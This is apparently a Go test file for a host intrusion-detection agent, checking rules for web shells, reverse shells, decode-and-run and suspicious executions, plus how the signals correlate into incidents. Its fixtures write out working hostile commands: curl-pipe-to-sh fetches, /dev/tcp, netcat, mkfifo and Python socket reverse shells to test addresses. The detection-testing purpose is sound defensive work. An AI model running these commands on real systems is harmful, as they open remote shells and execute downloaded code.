package detect

import (
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/picket-agent/picket/agent/correlate"
	"github.com/picket-agent/picket/agent/event"
	"github.com/picket-agent/picket/agent/signal"
	"github.com/picket-agent/picket/agent/whitelist"
	"github.com/picket-agent/picket/schema"
)

func anc(pid int, comm, exe string, args ...string) event.Ancestor {
	return event.Ancestor{PID: pid, Comm: comm, Exe: exe, Args: args}
}

var (
	systemd = anc(1, "systemd", "/usr/lib/systemd/systemd")
	nginxM  = anc(812, "nginx", "/usr/sbin/nginx", "nginx: master process")
	fpmM    = anc(1100, "php-fpm8.2", "/usr/sbin/php-fpm8.2", "php-fpm: master process")
	fpmW    = anc(1201, "php-fpm8.2", "/usr/sbin/php-fpm8.2", "php-fpm: pool www")
	shW     = anc(4410, "sh", "/usr/bin/dash", "sh", "-c", "curl -s http://198.18.0.2/x.sh | sh")
	login   = anc(2000, "bash", "/usr/bin/bash", "-bash")
	pg      = anc(700, "postgres", "/usr/lib/postgresql/15/bin/postgres", "postgres")
	dockerd = anc(600, "dockerd", "/usr/sbin/dockerd", "/usr/sbin/dockerd", "-H", "fd://")
	shim    = anc(7000, "containerd-shim", "/usr/bin/containerd-shim-runc-v2", "/usr/bin/containerd-shim-runc-v2", "-namespace", "moby")
	runc    = anc(7001, "runc", "/usr/sbin/runc", "runc", "--root", "/var/run/docker/runtime-runc/moby", "create")
	// An admin's tmux: server, then a shell per window.
	tmux      = anc(1500, "tmux: server", "/usr/bin/tmux", "tmux")
	tmuxShell = anc(1501, "bash", "/usr/bin/bash", "bash")
	goTool    = anc(3000, "go", "/usr/lib/go-1.26/bin/go", "go", "test", "./...")
)

func deleted(e *event.Event) *event.Event { e.Proc.Deleted = true; return e }

func detail(e *event.Event, d string) *event.Event { e.Detail = d; return e }

func proc(pid int, comm, exe string, lineage []event.Ancestor, args ...string) *event.Event {
	ppid := 0
	if len(lineage) > 0 {
		ppid = lineage[0].PID
	}
	return &event.Event{Time: time.Unix(1000, 0), Kind: event.ProcExec,
		Proc: &event.Process{PID: pid, PPID: ppid, Comm: comm, Exe: exe, Args: args, UID: 33, User: "www-data", Lineage: lineage}}
}

func TestProcessInvariants(t *testing.T) {
	cases := []struct {
		name  string
		ev    *event.Event
		rules []string
		text  string // substring of the first reason
	}{
		{"shell under php-fpm", proc(4410, "sh", "/usr/bin/dash", []event.Ancestor{fpmW, fpmM, systemd}, "sh", "-c", "id"),
			[]string{RuleWebShell}, `php-fpm8.2(1100) → php-fpm8.2(1201) → sh(4410) "sh -c id"`},
		{"curl two levels below nginx", proc(4411, "curl", "/usr/bin/curl", []event.Ancestor{shW, fpmW, nginxM, systemd}, "curl", "-s", "http://198.18.0.2/x.sh"),
			[]string{RuleWebChild}, `nginx(812) → php-fpm8.2(1201) → sh(4410) → curl(4411) "curl -s http://198.18.0.2/x.sh"`},
		{"binary renamed httpd (comm) spawning id", proc(5000, "id", "/usr/bin/id", []event.Ancestor{anc(4999, "httpd", "/opt/x/server"), systemd}, "id"),
			[]string{RuleWebChild}, "web server httpd(4999, /opt/x/server) spawned id"},
		{"symlinked exe base name", proc(5001, "bash", "/usr/bin/bash", []event.Ancestor{anc(4998, "worker", "/usr/sbin/lighttpd"), systemd}, "bash"),
			[]string{RuleWebShell}, "lighttpd"},
		{"nginx worker is not a child", proc(813, "nginx", "/usr/sbin/nginx", []event.Ancestor{nginxM, systemd}, "nginx: worker process"), nil, ""},
		{"admin shell is fine", proc(2001, "bash", "/usr/bin/bash", []event.Ancestor{login, systemd}, "bash"), nil, ""},
		{"postgres worker", proc(701, "postgres", "/usr/lib/postgresql/15/bin/postgres", []event.Ancestor{pg, systemd}, "postgres: checkpointer"), nil, ""},
		{"postgres spawning sh", proc(702, "sh", "/usr/bin/dash", []event.Ancestor{pg, systemd}, "sh", "-c", "whoami"),
			[]string{RuleDBChild}, "database server postgres(700) spawned sh"},
		{"dev tcp reverse shell", proc(3000, "bash", "/usr/bin/bash", []event.Ancestor{login, systemd}, "bash", "-c", "bash -i >& /dev/tcp/198.18.1.1/4444 0>&1"),
			[]string{RuleReverseShell}, "reverse shell (/dev/tcp redirection)"},
		{"nc -e", proc(3001, "nc", "/usr/bin/nc.traditional", []event.Ancestor{login, systemd}, "nc", "198.18.1.1", "4444", "-e", "/bin/sh"),
			[]string{RuleReverseShell}, "netcat executing a shell"},
		{"mkfifo pipe", proc(3002, "sh", "/usr/bin/dash", []event.Ancestor{login, systemd}, "sh", "-c", "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|nc 198.18.1.1 4444 >/tmp/f"),
			[]string{RuleReverseShell}, "named pipe"},
		{"python pty", proc(3003, "python3", "/usr/bin/python3.11", []event.Ancestor{login, systemd}, "python3", "-c", "import pty;pty.spawn('/bin/bash')"),
			[]string{RuleReverseShell}, "pty.spawn"},
		{"python socket shell", proc(3004, "python3", "/usr/bin/python3.11", []event.Ancestor{login, systemd}, "python3", "-c",
			"import socket,subprocess,os;s=socket.socket();s.connect(('198.18.1.1',4444));os.dup2(s.fileno(),0);subprocess.call(['/bin/sh','-i'])"),
			[]string{RuleReverseShell}, "scripted socket shell"},
		{"base64 decode and run", proc(3005, "sh", "/usr/bin/dash", []event.Ancestor{login, systemd}, "sh", "-c", "echo aWQK | base64 -d | sh"),
			[]string{RuleDecodeExec}, "decode-and-run"},
		{"base64 decode to a file is fine", proc(3006, "sh", "/usr/bin/dash", []event.Ancestor{login, systemd}, "sh", "-c", "base64 -d in > out"), nil, ""},
		{"grep -i with redirect is fine", proc(3007, "sh", "/usr/bin/dash", []event.Ancestor{login, systemd}, "sh", "-c", "grep -i ssh /etc/x >&2"), nil, ""},
		{"exec from /dev/shm", proc(3008, "x", "/dev/shm/x", []event.Ancestor{login, systemd}, "/dev/shm/x"),
			[]string{RuleExecTmp}, "execution from /dev/shm/: /dev/shm/x"},
		{"exec from /tmp under php-fpm is a web child", proc(3009, "kworker", "/tmp/.k/kworker", []event.Ancestor{shW, fpmW, fpmM}, "kworker"),
			[]string{RuleWebChild}, "started a program from /tmp/ (/tmp/.k/kworker)"},
		{"memfd payload under php-fpm is a web child", deleted(proc(3011, "3", "/memfd:x", []event.Ancestor{fpmW, fpmM}, "x")),
			[]string{RuleWebChild}, "from a memfd (/memfd:x)"},
		{"deleted binary", deleted(proc(3010, "x", "/opt/x", []event.Ancestor{login, systemd}, "x")),
			[]string{RuleExecDeleted}, "deleted binary /opt/x"},
		{"deleted system binary found at start: an upgrade", detail(deleted(proc(812, "nginx", "/usr/sbin/nginx", []event.Ancestor{systemd}, "nginx")), "initial"), nil, ""},
		{"deleted system binary exec'd: flagged", deleted(proc(3012, "nginx", "/usr/sbin/nginx", []event.Ancestor{login, systemd}, "nginx")),
			[]string{RuleExecDeleted}, "/usr/sbin/nginx"},
		{"deleted /tmp binary found at start", detail(deleted(proc(3013, "x", "/tmp/x", []event.Ancestor{systemd}, "x")), "initial"),
			[]string{RuleExecDeleted}, "/tmp/x"},
		// runc re-executes itself from a memfd for every container start;
		// at exec time comm is the fd number or already runc:[2:INIT].
		{"runc init from memfd under containerd-shim", deleted(proc(7003, "6", "/memfd:runc_cloned:/proc/self/exe", []event.Ancestor{runc, shim, systemd}, "runc", "init")), nil, ""},
		{"runc:[2:INIT] below the shim", deleted(proc(7004, "runc:[2:INIT]", "/memfd:runc_cloned:/proc/self/exe", []event.Ancestor{shim, systemd}, "runc", "init")), nil, ""},
		{"runc init of docker run via dockerd", deleted(proc(7005, "runc:[2:INIT]", "/memfd:runc_cloned:/proc/self/exe",
			[]event.Ancestor{anc(7002, "runc", "/usr/sbin/runc", "runc", "run"), dockerd, systemd}, "runc", "init")), nil, ""},
		{"runc's memfd name below a shell is not runc", deleted(proc(7006, "runc", "/memfd:runc_cloned:/proc/self/exe", []event.Ancestor{login, systemd}, "runc", "init")),
			[]string{RuleExecMemfd}, "/memfd:runc_cloned:/proc/self/exe"},
		{"a runc parent running from /tmp vouches for nothing", deleted(proc(7007, "6", "/memfd:runc_cloned:/proc/self/exe",
			[]event.Ancestor{anc(7001, "runc", "/tmp/runc", "runc"), login, systemd}, "runc", "init")), []string{RuleExecMemfd}, "memfd"},
		{"systemd-executor after an upgrade", deleted(proc(7010, "systemd-executor", "/usr/lib/systemd/systemd-executor", []event.Ancestor{systemd}, "/usr/lib/systemd/systemd-executor", "--deserialize", "20")), nil, ""},
		// What a sandbox or CI runner does: a sealed memfd helper. Heuristic.
		{"sealed memfd helper under a shell", deleted(proc(1079, "memfd:sealed-91", "/memfd:sealed-91173221a7ea", []event.Ancestor{login, systemd}, "line_io_tools/binary_backend", "--uid", "0")),
			[]string{RuleExecMemfd}, "running a program from a memfd (no file on disk) /memfd:sealed-91173221a7ea"},
		{"go test binary in /tmp/go-build", proc(3100, "a.test", "/tmp/go-build2291/b001/a.test", []event.Ancestor{goTool, tmuxShell, tmux, systemd}, "/tmp/go-build2291/b001/a.test", "-test.v"),
			[]string{RuleExecTmp}, "execution from /tmp/: /tmp/go-build2291/b001/a.test"},
		{"not an exec", &event.Event{Kind: event.ProcExit, Proc: &event.Process{PID: 1, Comm: "sh", Lineage: []event.Ancestor{fpmW}}}, nil, ""},
	}
	p := testPolicy(t)
	wl, _ := whitelist.New(p.Whitelist)
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			set := New(p, wl)
			var got []signal.Signal
			set.Observe(c.ev, func(s signal.Signal) { got = append(got, s) })
			var rules []string
			for _, s := range got {
				rules = append(rules, s.Rule)
				if s.Stage != signal.Execution || len(s.Entities) == 0 || len(s.Evidence) != 1 ||
					s.Entities[0] != (signal.Entity{Kind: signal.Process, Value: strconv.Itoa(c.ev.Proc.PID)}) {
					t.Errorf("signal %+v", s)
				}
				// One heuristic signal never reaches contain on its own.
				if schema.Heuristic(s.Rule) && s.Weight >= p.Levels.Contain {
					t.Errorf("%s weighs %v, contain is %v", s.Rule, s.Weight, p.Levels.Contain)
				}
			}
			if strings.Join(rules, ",") != strings.Join(c.rules, ",") {
				t.Fatalf("rules %v, want %v (%v)", rules, c.rules, got)
			}
			if c.text != "" && !strings.Contains(got[0].Reason, c.text) {
				t.Errorf("reason %q lacks %q", got[0].Reason, c.text)
			}
		})
	}
}

// TestWebChainOneIncidentKey: the shell and the tools below one web worker
// share its process entity, so they correlate into one incident; each
// names itself first (what kill-tree stops), not the worker.
func TestWebChainOneIncidentKey(t *testing.T) {
	p := testPolicy(t)
	wl, _ := whitelist.New(p.Whitelist)
	set := New(p, wl)
	var got []signal.Signal
	emit := func(s signal.Signal) { got = append(got, s) }
	set.Observe(proc(4410, "sh", "/usr/bin/dash", []event.Ancestor{fpmW, fpmM}, "sh", "-c", "id"), emit)
	set.Observe(proc(4411, "id", "/usr/bin/id", []event.Ancestor{shW, fpmW, fpmM}, "id"), emit)
	worker := signal.Entity{Kind: signal.Process, Value: "1201"}
	if len(got) != 2 || got[0].Entities[0].Value != "4410" || got[1].Entities[0].Value != "4411" ||
		!slices.Contains(got[0].Entities, worker) || !slices.Contains(got[1].Entities, worker) {
		t.Fatalf("signals %v do not share the web worker entity", got)
	}
	if n := incidents(t, p, got); n != 1 {
		t.Fatalf("%d incidents, want 1", n)
	}
}

// incidents correlates sigs and counts the incidents left open.
func incidents(t *testing.T, p *schema.Policy, sigs []signal.Signal) int {
	t.Helper()
	c := correlate.New(p, nil, 1)
	for _, s := range sigs {
		c.Add(s)
	}
	return len(c.Open())
}

// TestProcessScope: what joins process signals into one incident. Siblings
// below a process outside the session (a cron job's shell) join through
// it; processes whose only common ancestors are the session (systemd,
// sshd, tmux, login and interactive shells) do not, and neither do a
// developer's heuristic findings through the user.
func TestProcessScope(t *testing.T) {
	p := testPolicy(t)
	wl, _ := whitelist.New(p.Whitelist)
	dev := func(e *event.Event) *event.Event { e.Proc.UID, e.Proc.User = 1000, "dev"; return e }
	sshd := anc(800, "sshd", "/usr/sbin/sshd", "sshd: /usr/sbin/sshd -D [listener] 0 of 10-100 startups")
	sess := anc(900, "sshd", "/usr/sbin/sshd", "sshd: dev [priv]")
	shellA := anc(2000, "bash", "/usr/bin/bash", "-bash")
	goA := anc(3000, "go", "/usr/lib/go-1.26/bin/go", "go", "test", "./a/...")
	goB := anc(3100, "go", "/usr/lib/go-1.26/bin/go", "go", "test", "./b/...")
	cron := anc(400, "cron", "/usr/sbin/cron", "/usr/sbin/cron", "-f")
	job := anc(5000, "sh", "/usr/bin/dash", "/bin/sh", "-c", "curl -s http://198.18.9.9/x.sh | sh")
	tmuxB := anc(1502, "bash", "/usr/bin/bash", "bash")
	cases := []struct {
		name      string
		evs       []*event.Event
		incidents int
	}{
		{"two suites in two tmux windows", []*event.Event{
			dev(proc(3001, "a.test", "/tmp/go-build1/b001/a.test", []event.Ancestor{goA, tmuxShell, tmux, systemd}, "/tmp/go-build1/b001/a.test")),
			dev(proc(3101, "b.test", "/tmp/go-build2/b001/b.test", []event.Ancestor{goB, tmuxB, tmux, systemd}, "/tmp/go-build2/b001/b.test")),
		}, 2},
		{"two programs from /tmp run from one login shell", []*event.Event{
			dev(proc(3200, "x", "/tmp/x", []event.Ancestor{shellA, sess, sshd, systemd}, "/tmp/x")),
			dev(deleted(proc(3201, "3", "/memfd:sealed-1", []event.Ancestor{shellA, sess, sshd, systemd}, "helper"))),
		}, 2},
		{"one go test's binaries", []*event.Event{
			dev(proc(3002, "a.test", "/tmp/go-build1/b001/a.test", []event.Ancestor{goA, shellA, sess, sshd, systemd}, "/tmp/go-build1/b001/a.test")),
			dev(proc(3003, "c.test", "/tmp/go-build1/b002/c.test", []event.Ancestor{goA, shellA, sess, sshd, systemd}, "/tmp/go-build1/b002/c.test")),
		}, 1},
		{"a chain of suspicious children of one cron job", []*event.Event{
			proc(5001, "x", "/tmp/x", []event.Ancestor{job, cron, systemd}, "/tmp/x"),
			proc(5002, "y", "/dev/shm/y", []event.Ancestor{job, cron, systemd}, "/dev/shm/y"),
			deleted(proc(5003, "3", "/memfd:kworker", []event.Ancestor{anc(5002, "y", "/dev/shm/y"), job, cron, systemd}, "kworker")),
		}, 1},
		{"a runner started from memfd is no session: its children join through it", []*event.Event{
			proc(6001, "x", "/tmp/x", []event.Ancestor{anc(6000, "memfd:implant", "/memfd:implant"), systemd}, "/tmp/x"),
			proc(6002, "y", "/tmp/y", []event.Ancestor{anc(6000, "memfd:implant", "/memfd:implant"), systemd}, "/tmp/y"),
		}, 1},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			set := New(p, wl)
			var got []signal.Signal
			for _, ev := range c.evs {
				set.Observe(ev, func(s signal.Signal) { got = append(got, s) })
			}
			if len(got) != len(c.evs) {
				t.Fatalf("%d signals for %d execs: %v", len(got), len(c.evs), got)
			}
			for _, s := range got {
				for _, e := range s.Entities {
					if e.Kind == signal.User {
						t.Errorf("heuristic %s keyed on %s", s.Rule, e)
					}
				}
			}
			if n := incidents(t, p, got); n != c.incidents {
				t.Fatalf("%d incidents, want %d: %v", n, c.incidents, got)
			}
		})
	}
}
